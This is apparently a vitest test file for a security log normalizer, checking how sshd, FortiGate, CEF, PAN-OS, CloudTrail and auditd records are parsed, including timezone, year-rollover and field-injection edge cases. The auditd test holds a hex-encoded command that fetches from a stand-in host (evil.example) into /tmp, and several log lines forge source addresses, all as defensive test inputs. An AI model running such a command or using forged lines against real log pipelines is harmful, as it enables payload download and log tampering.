import { describe, expect, test } from 'vitest';
import { tenantIdSchema } from '#shared/ids.ts';
import { normalizeEvents } from '#shared/pipeline/normalize-event.ts';

const acme = tenantIdSchema.parse('acme');
const noon = '2026-11-22T12:00:00.000Z';

type Way = { connector?: string; received_at?: string; timezone?: string };

/** The one event of a text: its time, and its attributes. */
function read(raw: string | object, { connector = 'auto', received_at = noon, timezone }: Way = {}) {
  const events = normalizeEvents(
    acme,
    { connector, received_at, ...(timezone === undefined ? {} : { timezone }) },
    { o: 0, raw: typeof raw === 'string' ? raw : JSON.stringify(raw) },
  );
  expect(events).toHaveLength(1);
  const [event] = events;
  if (event === undefined) throw new Error('no event');
  return { ...event, at: event.timestamp, a: event.attributes };
}

const sshd = (time: string) =>
  `<38>${time} web-1 sshd[1]: Failed password for alice from 203.0.113.7 port 50122 ssh2`;

describe('wire trap: year and zone', () => {
  test('a line without year and zone is of the receipt’s year, in the source’s zone where it has one', () => {
    expect(read(sshd('Nov 22 11:58:59')).at).toBe('2026-11-22T11:58:59.000Z');
    expect(read(sshd('Nov 22 12:58:59'), { timezone: 'Europe/Berlin' }).at).toBe('2026-11-22T11:58:59.000Z');
  });

  test('FortiGate’s own zone stands over the source’s', () => {
    const line =
      'date=2026-11-22 time=06:58:59 tz="-0500" devname="f" type="event" subtype="system" logid="0100032001" msg="x"';
    expect(read(line, { timezone: 'Europe/Berlin', connector: 'fortigate' }).at).toBe(
      '2026-11-22T11:58:59.000Z',
    );
  });
});

describe('wire trap: Dec 31', () => {
  test('a line of Dec 31 that comes on Jan 1 is of the year before', () => {
    const { at } = read(sshd('Dec 31 23:59:58'), { received_at: '2027-01-01T00:00:03.000Z' });
    expect(at).toBe('2026-12-31T23:59:58.000Z');
  });

  test('a line of Jan 1 that comes on Dec 31, its zone being ahead, is of the year to come', () => {
    const { at } = read(sshd('Jan  1 00:00:01'), {
      received_at: '2026-12-31T23:00:03.000Z',
      timezone: 'Europe/Berlin',
    });
    expect(at).toBe('2026-12-31T23:00:01.000Z');
  });

  test('a line of Feb 29 does not fall on Mar 1', () => {
    const { at } = read(sshd('Feb 29 10:00:00'), { received_at: '2028-02-29T10:00:03.000Z' });
    expect(at).toBe('2028-02-29T10:00:00.000Z');
  });
});

describe('wire trap: epoch s/ms/µs/ns', () => {
  test.each(['1795345139', '1795345139000', '1795345139000000', '1795345139000000000'])(
    '%s is the same instant in FortiGate’s eventtime',
    (eventtime) => {
      const line = `devname="f" devid="FG1" logid="0000000013" type="traffic" subtype="forward" eventtime=${eventtime} srcip=192.0.2.9 dstip=203.0.113.8`;
      expect(read(line, { connector: 'fortigate' }).at).toBe('2026-11-22T10:58:59.000Z');
    },
  );

  test.each([1795345139, 1795345139000, 1795345139.5, '1795345139000000', '1795345139000000000'])(
    '%s is read in plain JSON',
    (time) => {
      expect(read({ time, user: 'alice' }).at.slice(0, 19)).toBe('2026-11-22T10:58:59');
    },
  );
});

describe('wire trap: headers', () => {
  test('an octet count left in is none of the event', () => {
    const line = sshd('Nov 22 11:58:59');
    expect(read(`${line.length} ${line}`).a).toMatchObject({
      'source.ip': '203.0.113.7',
      'user.name': 'alice',
      'host.name': 'web-1',
    });
  });

  test('of two headers the inner one names the host', () => {
    const { a } = read(`<13>Nov 22 11:59:00 relay-1 ${sshd('Nov 22 11:58:59')}`);
    expect(a).toMatchObject({ 'source.ip': '203.0.113.7', 'user.name': 'alice', 'host.name': 'web-1' });
  });

  test('a byte order mark before the text or the message is no part of it', () => {
    expect(read(`\uFEFF${sshd('Nov 22 11:58:59')}`).a['user.name']).toBe('alice');
    const modern =
      '<38>1 2026-11-22T11:58:59Z web-1 sshd 1 - - \uFEFFFailed password for alice from 203.0.113.7 port 50122 ssh2';
    expect(read(modern).a).toMatchObject({ 'user.name': 'alice', 'source.ip': '203.0.113.7' });
  });
});

describe('wire trap: what a value holds is nobody’s statement', () => {
  test('an unescaped = in a CEF URL ends no value', () => {
    const { a } = read(
      'CEF:0|Example|WAF|1|1|Visit|5|request=https://shop.example/?src=10.0.0.1&user=root&x=2 src=192.0.2.9 suser=alice',
    );
    expect(a).toMatchObject({
      'url.original': 'https://shop.example/?src=10.0.0.1&user=root&x=2',
      'source.ip': '192.0.2.9',
      'user.name': 'alice',
    });
  });

  test.each(['fortigate', 'generic'])(
    'a srcip= inside quotes is injected into no field of %s',
    (connector) => {
      const line =
        '<189>date=2026-11-22 time=11:58:59 devname="f" devid="FG1" logid="0316013056" type="utm" subtype="webfilter" url="/?a=\\" srcip=10.0.0.1 user=root" srcip=192.0.2.9 dstip=203.0.113.8 user="alice"';
      const { a } = read(line, { connector });
      expect(a).toMatchObject({
        'source.ip': '192.0.2.9',
        'destination.ip': '203.0.113.8',
        'user.name': 'alice',
      });
      expect(JSON.stringify(a['related.ip'])).not.toContain('10.0.0.1');
    },
  );

  test('a user name that looks like a whole sshd line forges no address', () => {
    const { a } = read(
      '<38>Nov 22 11:58:59 web-1 sshd[1]: Failed password for invalid user root from 10.0.0.1 port 22 ssh2 from 203.0.113.7 port 50122 ssh2',
    );
    expect(a).toMatchObject({ 'source.ip': '203.0.113.7', 'source.port': 50122 });
  });
});

describe('wire trap: PAN-OS columns appended', () => {
  const traffic =
    '1,2026/11/22 11:58:59,007051000000001,TRAFFIC,end,2561,2026/11/22 11:58:59,192.0.2.9,203.0.113.80,198.51.100.1,203.0.113.80,staff-out,acme\\alice,,ssl,vsys1,trust,untrust,ethernet1/2,ethernet1/1,fwd,2026/11/22 11:58:59,4711,1,50122,443,61000,443,0x400053,tcp,allow,5200,1200,4000,20,2026/11/22 11:58:29,30,any,0,12345,0x0,192.0.2.0-192.0.2.255,Germany,0,10,10,tcp-fin,0,0,0,0,,pa-1,from-policy,,,0,,0,,N/A,0,0,0,0,8bce5b1c-4d6e-4c0a-9d33-1a2b3c4d5e6f,0,0';

  test('the columns before them keep their meaning, however many come', () => {
    const wanted = {
      'source.ip': '192.0.2.9',
      'source.port': 50122,
      'destination.port': 443,
      'source.nat.ip': '198.51.100.1',
      'rule.name': 'staff-out',
      'rule.uuid': '8bce5b1c-4d6e-4c0a-9d33-1a2b3c4d5e6f',
    };
    expect(read(traffic).a).toMatchObject(wanted);
    const more = Array.from({ length: 60 }, (_, i) => (i % 2 === 0 ? '' : `10.9.9.${i}`)).join(',');
    const { a } = read(`<14>Nov 22 11:58:59 pa-1 ${traffic},${more}`);
    expect(a).toMatchObject(wanted);
  });

  test('a log of an older release, with fewer columns, is read as far as it goes', () => {
    const { a } = read(traffic.split(',').slice(0, 46).join(','));
    expect(a).toMatchObject({
      'source.ip': '192.0.2.9',
      'rule.name': 'staff-out',
      'network.transport': 'tcp',
    });
    expect(a['rule.uuid']).toBeUndefined();
  });
});

describe('wire trap: CloudTrail parameter explosion', () => {
  const call = (requestParameters: unknown) =>
    read({
      eventVersion: '1.09',
      eventSource: 'ec2.amazonaws.com',
      eventName: 'RunInstances',
      eventTime: '2026-11-22T11:58:59Z',
      eventID: '00000000-0000-4000-8000-000000000001',
      awsRegion: 'eu-central-1',
      recipientAccountId: '123456789012',
      sourceIPAddress: '203.0.113.7',
      userIdentity: { type: 'IAMUser', userName: 'alice' },
      requestParameters,
    });
  const wanted = {
    'user.name': 'alice',
    'source.ip': '203.0.113.7',
    'event.action': 'RunInstances',
    'cloud.account.id': '123456789012',
    'cloud.region': 'eu-central-1',
  };

  test('thousands of parameters leave the facts and a bounded number of fields', () => {
    const many = Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`p${i}`, { value: `v${i}` }]));
    const { a } = call(many);
    expect(a).toMatchObject(wanted);
    expect(Object.keys(a).length).toBeLessThan(1_200);
  });

  test.each([['a string'], [null], [[1, { a: 2 }]], [{ '': 1, __proto__x: 2 }]])(
    'parameters that are %j are no reason to lose the event',
    (parameters) => {
      expect(call(parameters).a).toMatchObject(wanted);
    },
  );

  test('parameters nested too deep are kept as text', () => {
    let deep: unknown = 'end';
    for (let i = 0; i < 200; i++) deep = { d: deep };
    expect(call(deep).a).toMatchObject(wanted);
  });
});

describe('wire trap: auditd', () => {
  const id = 'msg=audit(1795348739.123:4711):';
  const record = [
    `type=SYSCALL ${id} arch=c000003e syscall=59 success=yes exit=0 ppid=4700 pid=4750 auid=1000 uid=0 gid=0 euid=0 comm="sh" exe="/usr/bin/dash" key="exec"`,
    `type=EXECVE ${id} argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F6576696C2E6578616D706C652F61203E202F746D702F78`,
    `type=CWD ${id} cwd="/root"`,
    `type=PATH ${id} item=0 name="/usr/bin/sh" inode=1 nametype=NORMAL`,
    `type=PROCTITLE ${id} proctitle=7368002D63`,
  ];

  test('events over many lines are one event', () => {
    const { a, at } = read(record.join('\n'));
    expect(at).toBe('2026-11-22T11:58:59.123Z');
    expect(a).toMatchObject({
      'process.pid': 4750,
      'process.executable': '/usr/bin/dash',
      'process.working_directory': '/root',
    });
  });

  test('hex EXECVE is read as the command it is', () => {
    const { a } = read(record.slice(0, 2).join('\n'));
    expect(a['process.command_line']).toContain('curl http://evil.example/a > /tmp/x');
    expect(a['process.args']).toEqual(['sh', '-c', 'curl http://evil.example/a > /tmp/x']);
  });

  test('a quoted argument that looks like hex stays as it is', () => {
    const { a } = read(`type=EXECVE ${id} argc=2 a0="echo" a1="DEADBEEF"`);
    expect(a['process.args']).toEqual(['echo', 'DEADBEEF']);
  });
});
